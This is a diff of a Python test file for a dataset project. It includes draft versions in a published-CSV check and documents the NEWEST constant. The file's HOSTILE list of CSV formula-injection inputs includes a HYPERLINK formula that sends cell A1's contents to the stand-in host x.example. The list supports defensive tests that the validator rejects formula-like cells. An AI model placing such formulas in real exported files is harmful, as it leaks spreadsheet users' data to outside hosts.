@@ -28,7 +28,7 @@ from cartel_campaign.validation.files import csv_agreement, read_release
 
 A4 = "seeds/004_a369d1b0aa72c426.yaml"
 T4 = "seeds/004_a369d1b0aa72c426.txt"
-NEWEST = cc.versions(ROOT)[-1]
+NEWEST = cc.versions(ROOT)[-1]  # the newest published release: what info, load and coverage read by default
 SUMMARY = "summary: The FTO designation of the Cartel de los Soles is to take effect on November 24."
 HOSTILE = ["=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "+1+2", "-2+3", "@SUM(1)", "\t=1", "\r=1",
            "'=already guarded?", "''+twice", "'plain apostrophe", "a=1 inside", "plain"]
@@ -122,7 +122,7 @@ def test_validate_refuses_a_csv_cell_that_begins_like_a_formula(tmp_path):
 
 def test_published_csv_files_are_what_the_guarded_format_writes():
     """The guard changes no published byte: no value of 0.1.0, 1.0.0 or 1.1.0 needs it (they keep rebuilding and validating)."""
-    for version in cc.versions(ROOT):
+    for version in cc.versions(ROOT, drafts=True):
         folder = ROOT / "dataset" / version
         for res in json.loads((folder / "datapackage.json").read_text(encoding="utf-8"))["resources"]:
             cells = release.read_csv(folder / res["path"], res["schema"], as_written=True)
